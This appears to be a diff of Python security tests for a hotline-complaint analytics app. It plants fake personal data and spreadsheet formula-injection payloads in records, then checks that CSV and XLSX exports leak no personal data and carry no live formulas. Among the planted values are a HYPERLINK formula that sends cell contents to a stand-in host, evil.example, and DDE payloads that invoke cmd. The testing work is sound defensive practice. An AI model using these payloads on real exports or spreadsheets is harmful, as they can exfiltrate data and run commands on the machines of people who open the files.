@@ -30,6 +30,9 @@ from security import access, testing, users
 
 PHONE, ID_NUMBER, EMAIL, CARD = "13812345678", "410102199003071234", "zhang.san@example.com", "6222021234567890123"
 PII_TEXT = f"联系电话{PHONE}，身份证{ID_NUMBER}，邮箱{EMAIL}，银行卡{CARD}。"
+# Cells that would run in a spreadsheet (OWASP CSV injection), planted at the start of titles and reasons.
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+            "-2+3", "\t=1+1")
 # What must never appear: the numbers in any spelling a browser or spreadsheet would show, and the mailbox.
 LEAKS = (PHONE, ID_NUMBER, "zhang.san", CARD)
 ROLES_WITHOUT_PII = sorted(set(ROLES) - PII_ROLES)
@@ -47,9 +50,13 @@ def _plant_pii() -> None:
     with db.session_scope() as session:
         session.execute(text("UPDATE fact_hotline_ticket SET title = title || :t, content = content || :t"),
                         {"t": PII_TEXT})
+        for n, formula in enumerate(FORMULAS):
+            session.execute(text("UPDATE fact_hotline_ticket SET title = :f || title, content = :f || content"
+                                 " WHERE ticket_id % :k = :n"), {"f": formula, "k": len(FORMULAS), "n": n})
         session.execute(update(RiskLead).values(title=RiskLead.title + f"（来电{PHONE}）", reason=RiskLead.reason + PII_TEXT))
         session.execute(update(RiskLeadEvent).values(note=PII_TEXT))
         for lead in session.scalars(select(RiskLead)):
+            lead.title = FORMULAS[lead.lead_id % len(FORMULAS)] + lead.title
             evidence = dict(lead.evidence or {})
             quoted = evidence.get("complaints") or [{"order_no": "KF000", "accepted_at": "2026-06-01 08:00:00"}]
             evidence["complaints"] = [{**c, "title": f"诉求{PHONE}", "content": PII_TEXT} for c in quoted]
@@ -310,3 +317,83 @@ def test_cli_lead_list_and_export_carry_no_personal_data(app, tmp_path):
     exported = runner.invoke(cli, ["leads", "export", "--format", "csv", "--out", str(out)])
     assert exported.exit_code == 0, exported.output
     assert _leaks(out.read_text(encoding="utf-8-sig")) == []
+
+
+# --------------------------------------------------------------------------- formulas in files (#21.4)
+
+def _spreadsheet_cells(payload: dict) -> tuple[list, list]:
+    """(openpyxl cells of every sheet, or [] for CSV; CSV cells as read by the csv module, or [])."""
+    import csv
+
+    import openpyxl
+
+    raw = base64.b64decode(payload["content"]) if payload.get("base64") else payload["content"].encode("utf-8")
+    if raw[:2] == b"PK":
+        book = openpyxl.load_workbook(io.BytesIO(raw))
+        return [c for ws in book.worksheets for row in ws.iter_rows() for c in row], []
+    return [], [c for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for c in row]
+
+
+def _assert_inert(payload: dict, where) -> int:  # noqa: ANN001
+    """No formula cell in an XLSX, no CSV cell a spreadsheet would evaluate; returns the planted cells seen."""
+    from data_access.spreadsheet import _PLAIN_NUMBER, FORMULA_TRIGGERS
+
+    xlsx, csv_cells = _spreadsheet_cells(payload)
+    assert [c.coordinate for c in xlsx if c.data_type == "f"] == [], where
+    live = [c for c in csv_cells if c.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(c)]
+    assert live == [], (where, live[:3])
+    planted = [c.value for c in xlsx if isinstance(c.value, str) and c.value.startswith(FORMULAS)]
+    return len(planted) + sum(c.startswith(tuple("'" + f for f in FORMULAS)) for c in csv_cells)
+
+
+@pytest.mark.parametrize("role", ["ANALYST", "LEADER"])
+def test_no_export_carries_a_live_formula(app, role):
+    """Every page's table export, CSV and XLSX, with planted formulas in complaint and lead titles."""
+    from ui import exports
+
+    client, scope, planted = _client(app, role), _scope(role), 0
+    for page, path in _paths(role):
+        build = getattr(sys.modules[page["module"]], "export_table", None)
+        if build is None:
+            continue
+        _, components = _render(app, client, path)
+        tables = {json.loads(k)["table"] for k in components
+                  if k.startswith("{") and json.loads(k).get("type") == f"{access.id_prefix(page)}csv"}
+        for table in sorted(tables):
+            with db.session_scope() as session:
+                built = build(session, scope, table, *_export_states(app, page, components))
+            for fmt in exports.FORMATS if built is not None else ():
+                planted += _assert_inert(exports.download(*built, fmt), (page["module"], table, fmt))
+    assert planted > 0, "the exports never carried the planted formulas"
+
+
+def test_xlsx_exports_keep_numbers_numbers_and_text_text():
+    import pandas as pd
+
+    from ui import exports
+
+    df = pd.DataFrame({"标题": list(FORMULAS) + ["普通文本"], "金额": [-12.5, -3, 0, 4, 5.25, -7]})
+    xlsx, _ = _spreadsheet_cells(exports.download(df, "t", "xlsx"))
+    values = {(c.row, c.column): (c.value, c.data_type) for c in xlsx}
+    assert [values[(r, 1)] for r in range(2, 8)] == [(v, "s") for v in df["标题"]]  # the text, exactly, as text
+    assert [values[(r, 2)] for r in range(2, 8)] == [(v, "n") for v in df["金额"]]  # negative numbers stay numbers
+    _, cells = _spreadsheet_cells(exports.download(df, "t", "csv"))
+    assert cells[2:4] == ["'" + FORMULAS[0], "-12.5"] and "'-2+3" in cells and "-3.0" in cells
+
+
+def test_bulletin_and_cli_exports_carry_no_live_formula(app, tmp_path):
+    from bianjian_cli import cli
+    from evaluation import reports
+    from pages import my_department
+
+    scope = _scope("LEADER")
+    with db.session_scope() as session:
+        month = session.scalar(select(RiskLead.created_at).order_by(RiskLead.created_at.desc())).strftime("%Y-%m")
+        unit = session.scalar(select(Department.dept_code).order_by(Department.dept_code).limit(1))
+        assert reports.monthly_bulletin(session, month, scope=scope, unit=unit)
+        _name, content = my_department.bulletin_file(session, scope, unit, month, "xlsx")
+    _assert_inert({"content": base64.b64encode(content).decode(), "base64": True}, "bulletin")
+    out = tmp_path / "leads.csv"
+    result = CliRunner().invoke(cli, ["leads", "export", "--format", "csv", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    assert _assert_inert({"content": out.read_text(encoding="utf-8-sig")}, "leads export") > 0
